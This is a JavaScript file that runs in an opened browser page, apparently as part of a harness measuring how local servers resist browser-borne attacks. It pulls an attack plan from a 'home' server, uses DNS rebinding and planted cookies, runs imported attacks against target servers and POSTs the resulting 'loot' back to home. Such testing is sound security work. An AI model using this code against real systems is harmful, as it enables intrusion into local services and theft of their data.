// Runs in the browser, as a page that a user has opened: tries every attack of its plan on every server and tells home what it got.
import { attacks } from './attacks.js'

const { searchParams } = new URL(location.href)
const home = searchParams.get('home')
const standing = searchParams.get('standing')
const tell = (path, body) => fetch(home + path, { method: 'POST', body: JSON.stringify(body) })

async function run() {
  const plan = await (await tell('/plan', { standing })).json()
  if (plan.rebound) await tell('/rebind', { standing })
  // A page that was rebound has come under the very name and port of the server, and calls it by them.
  const prizes = plan.rebound ? plan.prizes.map((prize) => ({ ...prize, url: location.origin })) : plan.prizes
  // Cookies know no ports: those of a neighbour go to the server too.
  if (standing === 'same-site') document.cookie = 'token=guessed; path=/'
  for (const attack of plan.attacks) {
    const scratch = document.body.appendChild(document.createElement('div'))
    const spoils = await Promise.all(prizes.map(async (prize) => [prize.name, await raid(attack, prize, scratch)]))
    await tell('/report', { standing, attack: attack.name, spoils: Object.fromEntries(spoils) })
    scratch.remove()
  }
  if (parent !== self) parent.postMessage({ next: plan.next }, '*')
  else if (plan.next === null) await tell('/done', {})
  else location.href = plan.next
}

async function raid({ name, run: way, args }, prize, scratch) {
  const mark = encodeURIComponent(`${standing}.${name}`)
  const late = new Promise((resolve) => setTimeout(resolve, 30_000, { loot: '', note: 'it took too long' }))
  const heard = () => tell('/heard', { standing, attack: name, target: prize.name })
  const attempt = async () => ({ loot: await attacks[way]({ prize, args, mark, scratch, home, heard }), note: '' })
  return Promise.race([late, attempt().catch((error) => ({ loot: '', note: String(error) }))])
}

run().catch((error) => tell('/failed', String(error)))
